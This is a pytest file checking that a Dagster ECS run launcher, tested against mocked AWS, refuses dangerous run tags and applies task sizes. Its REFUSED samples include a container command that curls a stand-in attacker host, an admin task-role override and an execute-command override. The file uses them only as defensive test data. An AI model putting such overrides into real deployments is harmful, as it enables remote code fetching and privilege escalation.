"""The launcher of the deployment on AWS, as its `dagster.yaml` names it, against ECS over HTTP (moto)."""

import json
from collections.abc import Iterator

import dagster as dg
import pytest
import yaml
from dagster._core.launcher import LaunchRunContext, ResumeRunContext

from openlib_assets.defs.instance.ecs_run_launcher import RunTagError
from openlib_assets.defs.jobs import BUILD_DUMP, jobs
from openlib_assets_tests.conftest import environment
from openlib_assets_tests.deployed.ecs import client, cluster, launched
from openlib_assets_tests.tools.deployment import PROJECT_ROOT


@dg.job
def nothing_to_do() -> None:
    """Stand for any job."""


@pytest.fixture
def on_ecs(s3_url: str) -> Iterator[dg.DagsterInstance]:
    """An instance that launches what `deploy/aws/dagster.yaml` says, in a cluster that runs nothing."""
    shipped = yaml.safe_load((PROJECT_ROOT / "deploy/aws/dagster.yaml").read_text())
    about = {"AWS_ENDPOINT_URL": s3_url, "AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}
    with (
        cluster(s3_url) as variables,
        environment({**about, "AWS_DEFAULT_REGION": "us-east-1", **variables}),
        dg.instance_for_test(overrides={"run_launcher": shipped["run_launcher"]}) as instance,
    ):
        yield instance


def new_run(instance: dg.DagsterInstance, tags: dict[str, str]) -> dg.DagsterRun:
    origin = dg.reconstructable(nothing_to_do).get_python_origin()
    return instance.create_run_for_job(nothing_to_do, tags=tags, job_code_origin=origin)


REFUSED = {
    "ecs/container_overrides": {"command": ["sh", "-c", "curl attacker.example"]},
    "ecs/task_overrides": {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"},
    "ecs/run_task_kwargs": {"taskDefinition": "another", "enableExecuteCommand": True},
    "ecs/of_a_later_release": {},
}


def test_a_tag_that_changes_the_task_of_a_run_is_refused_in_one_line(on_ecs: dg.DagsterInstance, s3_url: str) -> None:
    before = launched(client("ecs", s3_url))
    launcher = on_ecs.run_launcher
    for tag, value in REFUSED.items():
        run = new_run(on_ecs, {tag: json.dumps(value), "ecs/cpu": "2048"})
        refusal = f"^the run is not started: remove the tag {tag}; [^\n]*$"
        with pytest.raises(RunTagError, match=refusal):
            launcher.launch_run(LaunchRunContext(run, workspace=None))
        with pytest.raises(RunTagError, match=refusal):
            launcher.resume_run(ResumeRunContext(run, workspace=None))
    assert launched(client("ecs", s3_url)) == before


def test_a_run_may_choose_the_size_of_its_task_also_when_it_is_executed_again(
    on_ecs: dg.DagsterInstance, s3_url: str
) -> None:
    ecs = client("ecs", s3_url)
    before = set(launched(ecs))
    run = new_run(on_ecs, {"ecs/cpu": "2048", "ecs/memory": "8192"})
    on_ecs.run_launcher.launch_run(LaunchRunContext(run, workspace=None))
    copied = on_ecs.get_run_by_id(run.run_id)
    assert copied
    assert "ecs/task_arn" in copied.tags
    again = new_run(on_ecs, dict(copied.tags))
    on_ecs.run_launcher.launch_run(LaunchRunContext(again, workspace=None))
    new = set(launched(ecs)) - before
    tasks = ecs.describe_tasks(cluster="openlib", tasks=list(new))["tasks"]
    containers = [container for task in tasks for container in task["overrides"]["containerOverrides"]]
    assert [(about["cpu"], about["memory"], about["command"][:3]) for about in containers] == 2 * [
        (2048, 8192, ["dagster", "api", "execute_run"])
    ]


def test_the_build_of_a_dump_has_a_task_with_its_memory_and_disk(on_ecs: dg.DagsterInstance, s3_url: str) -> None:
    ecs = client("ecs", s3_url)
    before = set(launched(ecs))
    (tags,) = [job.tags for job in jobs if job.name == BUILD_DUMP]
    run = new_run(on_ecs, dict(tags or {}))
    on_ecs.run_launcher.launch_run(LaunchRunContext(run, workspace=None))
    (task,) = ecs.describe_tasks(cluster="openlib", tasks=list(set(launched(ecs)) - before))["tasks"]
    (container,) = task["overrides"]["containerOverrides"]
    assert (container["cpu"], container["memory"], task["overrides"]["ephemeralStorage"]["sizeInGiB"]) == (
        2048,
        8192,
        100,
    )
